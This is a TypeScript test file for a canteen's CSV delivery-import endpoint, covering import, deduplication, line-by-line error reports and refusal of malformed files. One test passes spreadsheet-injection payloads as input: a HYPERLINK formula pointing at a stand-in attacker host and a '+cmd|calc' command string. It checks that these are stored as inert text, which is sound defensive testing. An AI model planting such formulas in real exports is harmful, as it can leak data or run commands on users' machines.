import { expect, test } from 'vitest';
import { type Answer, type Kitchen, openKitchen } from './kitchen.ts';

const HEADING = '进货日期,品名,规格,数量,单位,生产日期,批号,保质期至,供货者,类别,收货温度,验收人';

async function importing(kitchen: Kitchen, ...lines: string[]): Promise<Answer> {
  const path = '/api/v1/canteen/deliveries?campus=qingcheng&person=%E6%9D%8E%E6%A2%85';
  const response = await fetch(`${kitchen.gate.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: lines.join('\n'),
  });
  return JSON.parse(await response.text());
}

const RICE = '2026-11-20,大米,25kg/袋,10,袋,2026-10-01,,2027-04-01,双汇冷鲜肉,预包装食品,18.5,李梅';

test('a file of deliveries is taken, suppliers and categories by name', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  expect(await importing(kitchen, HEADING, RICE)).toEqual({
    ...{ rows: 1, imported: 1, known: 0, mistakes: [] },
  });
  const [line] = (await kitchen.get('/batches')).batches;
  expect(await kitchen.get(`/batches/${line?.id}`)).toMatchObject({
    ...{
      product: '大米',
      quantity: 10,
      unit: '袋',
      receivedDay: '2026-11-20',
      category: 'packaged',
    },
    ...{ supplier: { id: 'shuanghui' }, temperature: 18.5, expires: '2027-04-01' },
  });
});

test('imported again nothing is taken twice, though two deliveries may be alike', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  expect(await importing(kitchen, HEADING, RICE, RICE)).toMatchObject({ imported: 2, known: 0 });
  expect(await importing(kitchen, HEADING, RICE, RICE)).toMatchObject({ imported: 0, known: 2 });
  expect((await kitchen.get('/batches')).batches).toHaveLength(2);
});

test('mistakes are named by line and column, and the good lines are taken', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  const answer = await importing(
    kitchen,
    HEADING,
    '2026-11-20,面粉,,一袋,袋,,,,,,,',
    '2026-13-20,面粉,,1,袋,,,,,,热,',
    '2026-11-20,面粉,,1,袋,2026-11-01,,2026-10-01,,,,',
    '2026-11-20,面粉,,1,袋,,,,没有的人,,,',
    ',,,,,,,,,,,',
    RICE,
  );
  expect(answer).toMatchObject({ imported: 1 });
  const places = answer.mistakes.map((mistake) => {
    const { line, column, code }: { line?: number; column?: string; code?: string } = mistake;
    return `${line} ${column} ${code}`;
  });
  expect(places).toEqual([
    '2 数量 DELIVERY_CELL',
    '3 收货温度 DELIVERY_CELL',
    '3 进货日期 DELIVERY_CELL',
    '4 undefined BATCH_DATES',
    '5 undefined RECORD_UNKNOWN',
    ...['6 品名 DELIVERY_CELL', '6 数量 DELIVERY_CELL', '6 单位 DELIVERY_CELL'],
  ]);
});

test('what looks like a formula is text, and no number', async () => {
  await using kitchen = await openKitchen();
  const evil = '=HYPERLINK("http://evil.invalid"&A1)';
  const quoted = `"${evil.replaceAll('"', '""')}"`;
  const answer = await importing(
    kitchen,
    'product,quantity,unit',
    `${quoted},2,kg`,
    '+cmd|calc,=1+1,kg',
  );
  expect(answer).toMatchObject({ imported: 1, mistakes: [{ line: 3, column: 'quantity' }] });
  expect((await kitchen.get('/batches')).batches).toMatchObject([{ product: evil }]);
});

test.each([
  [['日期,品名,单位', '2026-11-20,米,kg'], 'DELIVERY_HEADING'],
  [[''], 'DELIVERY_HEADING'],
  [['品名,数量,单位', ...Array.from({ length: 5_001 }, () => '米,1,kg')], 'REQUEST_INVALID'],
])('a file that is none is refused whole', async (lines, code) => {
  await using kitchen = await openKitchen();
  expect(await importing(kitchen, ...lines)).toMatchObject({ code });
  expect((await kitchen.get('/batches')).batches).toEqual([]);
});

test('a quote that is never closed is named by its line, and nothing is taken', async () => {
  await using kitchen = await openKitchen();
  const answer = await importing(kitchen, '品名,数量,单位', '米,1,kg', '"油,1,桶');
  expect(answer).toMatchObject({ imported: 0, mistakes: [{ line: 3, code: 'DELIVERY_ROW' }] });
});
